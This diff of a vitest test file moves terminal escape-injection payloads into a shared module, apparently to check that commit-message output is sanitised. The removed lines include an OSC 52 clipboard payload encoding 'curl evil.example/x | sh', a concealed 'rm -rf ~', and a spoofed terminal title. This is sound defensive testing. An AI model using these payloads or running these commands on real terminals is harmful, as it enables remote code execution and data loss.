@@ -6,16 +6,11 @@ import { join } from 'node:path';
 import { afterEach, describe, expect, it } from 'vitest';
 import { commitResponder, isMessageRequest } from '../support/commit-responder.js';
 import { startProviderServer, type ProviderServer, type ResponderResult } from '../support/provider-server.js';
+import { C1, CLEAR, CLIPBOARD, CONCEALED, ESC, TITLE } from '../support/escape-payloads.js';
 import { remoteEnv } from '../support/remote-env.js';
 import { startTerminal, type Terminal } from '../support/terminal.js';
 import { MATH_WITH_MULTIPLY, createMathRepo, type TempRepo } from '../support/temp-repo.js';
 
-const ESC = '\x1b';
-const CLEAR = `${ESC}[2J${ESC}[H`;
-const CLIPBOARD = `${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUveCB8IHNo\x07`; // OSC 52: "curl evil.example/x | sh"
-const TITLE = `${ESC}]0;you have been pwned${ESC}\\`; // OSC 0, ST-terminated
-const CONCEALED = `${ESC}[8mrm -rf ~${ESC}[28m`;
-const C1 = '\x9b31m\x9d0;c1 title\x9c\x85';
 const HOSTILE = `feat(math): ${CLEAR}add multiply${TITLE}\x07\n\nAdds multiply${CLIPBOARD}.\n${CONCEALED}\nKeeps add as it was.${C1}`;
 const SUBJECT = 'feat(math): add multiply';
 const BODY = 'Adds multiply.\nrm -rf ~\nKeeps add as it was.';
